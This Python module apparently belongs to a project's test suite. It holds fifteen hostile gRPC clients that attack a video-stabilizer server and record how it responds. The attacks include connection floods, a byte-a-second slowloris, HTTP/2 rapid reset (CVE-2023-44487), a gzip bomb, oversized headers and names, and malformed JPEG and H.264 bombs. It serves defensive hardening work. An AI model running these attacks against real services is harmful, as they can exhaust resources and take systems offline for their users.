"""What clients that mean harm do. Each returns, in words, what the server said to it."""

from __future__ import annotations

import asyncio
import contextlib
import resource
import zlib
from collections import Counter
from collections.abc import AsyncIterator, Awaitable, Callable, Sequence

import cv2
import grpc
import grpc.aio
import numpy as np
import wire
from grpc_health.v1 import health_pb2, health_pb2_grpc
from wire import Connection

from flowgimbal.v1 import stabilizer_pb2 as pb
from flowgimbal.v1 import stabilizer_pb2_grpc as pb_grpc

HOLD_SECONDS = 30.0
MIB = 1 << 20


async def silent(address: str) -> str:
    """10,000 connections that say nothing."""
    return await _connections(address, 10_000, b"")


async def greeting(address: str) -> str:
    """2,000 connections that greet, and then say nothing."""
    return await _connections(address, 2_000, wire.PREFACE + wire.frame(wire.SETTINGS, 0, 0))


async def many(address: str) -> str:
    """1,000 streams asked of a server that has eight places."""
    said: Counter[str] = Counter()

    async def one(stub: pb_grpc.StabilizerServiceStub) -> None:
        call = stub.Stream()
        try:
            await call.write(pb.StreamRequest(config=pb.StreamConfig()))
            first = await call.read()
            said["open" if isinstance(first, pb.StreamResponse) else "ended"] += 1
            await asyncio.sleep(HOLD_SECONDS / 3)
            call.cancel()
        except grpc.aio.AioRpcError:
            said[await _status(call)] += 1

    async with _channels(address, 10) as stubs:
        await asyncio.gather(*(one(stubs[number % len(stubs)]) for number in range(1_000)))
    return _counted(said)


async def unspoken(address: str) -> str:
    """500 calls that never say what they want."""
    connections = [await Connection.open(address) for _ in range(5)]
    for connection in connections:
        for number in range(100):
            await connection.say(wire.call(2 * number + 1))
    await asyncio.sleep(HOLD_SECONDS)
    refused = sum(connection.heard.count(b"grpc-status") for connection in connections)
    _hang_up(connections)
    return f"at least {refused} told off"


async def halves(address: str) -> str:
    """Messages of 60 MiB, to methods of every kind, of which the last byte never comes."""
    paths = (
        wire.STREAM,
        "/flowgimbal.v1.StabilizerService/GetServerInfo",
        "/grpc.health.v1.Health/Check",
        "/grpc.health.v1.Health/Watch",
        "/flowgimbal.v1.ObserverService/Watch",
        "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo",
    )
    connections: list[Connection] = []
    flood = wire.message(bytes(MIB), announced=60 * MIB)

    async def one(path: str) -> None:
        with contextlib.suppress(OSError):
            connection = await Connection.open(address)
            connections.append(connection)
            await connection.say(wire.call(1, path))
            await connection.say(wire.data(1, flood))
            for _ in range(58):
                await connection.say(wire.data(1, bytes(MIB)))
                await asyncio.sleep(0.01)

    with contextlib.suppress(TimeoutError):
        async with asyncio.timeout(HOLD_SECONDS):
            await asyncio.gather(*(one(path) for path in paths * 40))
    hung_up = sum(connection.closed for connection in connections)
    _hang_up(connections)
    return f"{hung_up} of {len(connections)} hung up on"


async def readers(address: str) -> str:
    """Six streams that send frames and never read what comes back."""
    data = cv2.imencode(".jpg", _noise(1280, 720))[1].tobytes()
    said: Counter[str] = Counter()

    async def one(stub: pb_grpc.StabilizerServiceStub) -> None:
        call = stub.Stream()
        try:
            async with asyncio.timeout(HOLD_SECONDS):
                await call.write(pb.StreamRequest(config=pb.StreamConfig(mode=pb.MODE_LOSSLESS)))
                for number in range(2_000):
                    frame = pb.Frame(frame_id=number, encoding=pb.ENCODING_JPEG, data=data, capture_time_ns=number)
                    await call.write(pb.StreamRequest(frame=frame))
            said["all taken"] += 1
        except (grpc.aio.AioRpcError, asyncio.InvalidStateError):
            said[await _status(call)] += 1
        except TimeoutError:
            said[f"held up for {HOLD_SECONDS:.0f} s"] += 1
            call.cancel()

    async with _channels(address, 6) as stubs:
        await asyncio.gather(*map(one, stubs))
    return _counted(said)


async def deaf(address: str) -> str:
    """Six streams that send frames and read nothing, six more when those have ended, and so on; none is taken back."""
    data = cv2.imencode(".jpg", _noise(1280, 720))[1].tobytes()
    said: Counter[str] = Counter()
    open_now = []

    async def one(stub: pb_grpc.StabilizerServiceStub) -> None:
        call = stub.Stream()
        open_now.append(call)
        try:
            await call.write(pb.StreamRequest(config=pb.StreamConfig(mode=pb.MODE_LOSSLESS)))
            for number in range(2_000):
                frame = pb.Frame(frame_id=number, encoding=pb.ENCODING_JPEG, data=data, capture_time_ns=number)
                await call.write(pb.StreamRequest(frame=frame))
        except (grpc.aio.AioRpcError, asyncio.InvalidStateError):
            said["refused"] += 1
        except asyncio.CancelledError:
            said["held up"] += 1

    async with _channels(address, 1) as (stub,):
        tasks = []
        for _ in range(4):
            tasks += [asyncio.ensure_future(one(stub)) for _ in range(6)]
            await asyncio.sleep(HOLD_SECONDS / 2)
        for task in tasks:
            task.cancel()
        await asyncio.gather(*tasks)
    return _counted(said)


async def watchers(address: str) -> str:
    """3,000 watches of health, on ten connections that take nothing, and twelve of a name of 10 MiB."""
    connections = [await Connection.open(address, wire.DEAF) for _ in range(10)]
    ask = wire.message(health_pb2.HealthCheckRequest().SerializeToString())
    for stream in range(1, 600, 2):
        for connection in connections:
            await connection.say(wire.call(stream, "/grpc.health.v1.Health/Watch") + wire.data(stream, ask))
    long = health_pb2.HealthCheckRequest(service="x" * (10 * MIB))
    said: Counter[str] = Counter()
    async with grpc.aio.insecure_channel(address) as channel:
        calls = [health_pb2_grpc.HealthStub(channel).Watch(long) for _ in range(12)]
        said.update([(await call.code()).name for call in calls])
    await asyncio.sleep(HOLD_SECONDS / 3)
    _hang_up(connections)
    return f"names: {_counted(said)}"


async def names(address: str) -> str:
    """Twelve streams are tuned whose ids have 20 MiB."""
    said: Counter[str] = Counter()
    async with grpc.aio.insecure_channel(address, options=[("grpc.max_send_message_length", -1)]) as channel:
        stub = pb_grpc.ObserverServiceStub(channel)
        for _ in range(12):
            try:
                await stub.Tune(pb.TuneRequest(stream_id="\x01" * (20 * MIB)))
            except grpc.aio.AioRpcError as error:
                said[error.code().name] += 1
    return _counted(said)


async def drips(address: str) -> str:
    """200 calls, a byte a second."""
    connections = [await Connection.open(address) for _ in range(200)]
    with contextlib.suppress(OSError):
        for connection in connections:
            await connection.say(wire.call(1))
    head = wire.message(bytes(1000), announced=1000)
    for place in range(int(HOLD_SECONDS)):
        for connection in connections:
            with contextlib.suppress(OSError):
                await connection.say(wire.data(1, head[place : place + 1]))
        await asyncio.sleep(1)
    told = sum(b"grpc-status" in connection.heard or connection.closed for connection in connections)
    _hang_up(connections)
    return f"{told} of {len(connections)} told off"


async def resets(address: str) -> str:
    """100,000 calls, each taken back at once (CVE-2023-44487)."""
    sent = 0
    for _ in range(20):
        connection = await Connection.open(address)
        try:
            for number in range(5_000):
                stream = 2 * number + 1
                cancel = wire.frame(wire.RST_STREAM, 0, stream, (8).to_bytes(4, "big"))
                await connection.say(wire.call(stream) + cancel)
                sent += 1
        except OSError:
            pass
        connection.close()
    return f"{sent} sent"


async def zipped(address: str) -> str:
    """Messages of a mebibyte that unpack to a gibibyte."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    head, again = (packer.compress(bytes(16 * MIB)) + packer.flush(zlib.Z_FULL_FLUSH) for _ in range(2))
    bomb = head + again * 63  # packing all of it would take the processor from those that behave
    connections = []
    for _ in range(8):
        connection = await Connection.open(address)
        connections.append(connection)
        with contextlib.suppress(OSError):
            await connection.say(wire.call(1, grpc_encoding="gzip"))
            await connection.say(wire.data(1, wire.message(bomb, compressed=True)))
    await asyncio.sleep(HOLD_SECONDS / 3)
    refused = sum(b"is disabled" in connection.heard for connection in connections)
    _hang_up(connections)
    return f"{refused} of {len(connections)} told that nothing is unpacked"


async def headers(address: str) -> str:
    """500 calls with 60 KiB of metadata."""
    connection = await Connection.open(address)
    with contextlib.suppress(OSError):
        for number in range(500):
            await connection.say(wire.call(2 * number + 1, x_flood="a" * 60 * 1024))
    await asyncio.sleep(3)
    refused = connection.heard.count(b"grpc-status") + connection.closed
    connection.close()
    return f"at least {refused} told off"


async def bombs(address: str) -> str:
    """Small files that announce, or cost, much more: six streams of them, live, forty files each."""
    plain = cv2.imencode(".jpg", np.full((2304, 4096, 3), 128, np.uint8), [cv2.IMWRITE_JPEG_PROGRESSIVE, 1])[
        1
    ].tobytes()
    start, end = plain.rindex(b"\xff\xda"), plain.rindex(b"\xff\xd9")
    files = (
        plain[:end] + plain[start:end] * 100_000 + plain[end:],
        plain[:2] + b"\xff" * (60 * MIB) + plain[2:],
        plain[:2] + b"\xff\xfe\x00\x02" * (15 * MIB) + plain[2:],
        _second_header(),
        bytes(60 * MIB),
        b"\0\0\1\x67" + bytes(60 * MIB),
    )
    encodings = [pb.ENCODING_JPEG] * 4 + [pb.ENCODING_H264, pb.ENCODING_HEVC]
    return await _streams(address, [(data, encoding) for data, encoding in zip(files, encodings, strict=True)])


async def _streams(address: str, contents: Sequence[tuple[bytes, pb.Encoding]], count: int = 40) -> str:
    said: Counter[str] = Counter()

    async def one(stub: pb_grpc.StabilizerServiceStub, data: bytes, encoding: pb.Encoding) -> None:
        call = stub.Stream()
        try:
            await call.write(pb.StreamRequest(config=pb.StreamConfig(mode=pb.MODE_LIVE)))
            for number in range(count):
                frame = pb.Frame(frame_id=number, encoding=encoding, data=data, capture_time_ns=number * 10**7)
                await call.write(pb.StreamRequest(frame=frame))
            await call.done_writing()
            async for _ in call:
                pass
            said["OK"] += 1
        except (grpc.aio.AioRpcError, asyncio.InvalidStateError):
            said[await _status(call)] += 1

    async with _channels(address, len(contents)) as stubs:
        calls = (one(stub, *content) for stub, content in zip(stubs, contents, strict=True))
        await asyncio.gather(*calls)
    return _counted(said)


async def sizes(address: str) -> str:
    """Four live streams whose size changes with every frame."""
    said: Counter[str] = Counter()
    rng = np.random.default_rng(0)

    async def one(stub: pb_grpc.StabilizerServiceStub) -> None:
        call = stub.Stream()
        try:
            await call.write(pb.StreamRequest(config=pb.StreamConfig(mode=pb.MODE_LIVE)))
            for number in range(300):
                width, height = (int(side) for side in rng.integers(1, 1200, 2))
                frame = pb.Frame(
                    frame_id=number, encoding=pb.ENCODING_GRAY8, data=bytes(width * height), width=width, height=height
                )
                await call.write(pb.StreamRequest(frame=frame))
            await call.done_writing()
            async for _ in call:
                pass
            said["OK"] += 1
        except (grpc.aio.AioRpcError, asyncio.InvalidStateError):
            said[await _status(call)] += 1

    async with _channels(address, 4) as stubs:
        await asyncio.gather(*map(one, stubs))
    return _counted(said)


ATTACKS: dict[str, Callable[[str], Awaitable[str]]] = {
    attack.__name__: attack
    for attack in (
        silent, greeting, many, unspoken, halves, readers, deaf, watchers, names, drips, resets, zipped, headers, bombs,
        sizes,
    )
}  # fmt: skip
"""By name."""


async def _connections(address: str, count: int, hello: bytes) -> str:
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if hard < count + 100:
        raise SystemExit(f"this needs {count + 100} descriptors, and the limit is {hard}: ulimit -Hn")
    resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, count + 100), hard))
    open_now: list[Connection] = []
    refused = 0
    for _ in range(count):
        try:
            open_now.append(await Connection.open(address, hello))
        except OSError:
            refused += 1
    await asyncio.sleep(HOLD_SECONDS)
    closed = sum(connection.closed for connection in open_now)
    _hang_up(open_now)
    return f"{count} tried, {refused} refused, {closed} hung up on within {HOLD_SECONDS:.0f} s"


def _hang_up(connections: Sequence[Connection]) -> None:
    for connection in connections:
        connection.close()


@contextlib.asynccontextmanager
async def _channels(address: str, count: int) -> AsyncIterator[list[pb_grpc.StabilizerServiceStub]]:
    options = [("grpc.use_local_subchannel_pool", 1), ("grpc.max_send_message_length", -1)]
    async with contextlib.AsyncExitStack() as stack:
        yield [
            pb_grpc.StabilizerServiceStub(
                await stack.enter_async_context(grpc.aio.insecure_channel(address, options=options))
            )
            for _ in range(count)
        ]


async def _status(call: grpc.aio.StreamStreamCall[pb.StreamRequest, pb.StreamResponse]) -> str:
    """How a call ended; its responses are read first, because gRPC tells the status after them alone."""
    try:
        while isinstance(await call.read(), pb.StreamResponse):
            pass
    except grpc.aio.AioRpcError:
        pass
    return (await call.code()).name


def _counted(said: Counter[str]) -> str:
    return ", ".join(f"{count} {what}" for what, count in said.most_common())


def _noise(width: int, height: int) -> np.ndarray:
    return np.random.default_rng(0).integers(0, 255, (height, width, 3), dtype=np.uint8)


def _second_header() -> bytes:
    plain = cv2.imencode(".jpg", np.zeros((48, 64, 3), np.uint8))[1].tobytes()
    start = plain.index(b"\xff\xc0")
    end = start + 2 + int.from_bytes(plain[start + 2 : start + 4], "big")
    larger = plain[start : start + 5] + (30_000).to_bytes(2, "big") * 2 + plain[start + 9 : end]
    return plain[:end] + larger + plain[end:]
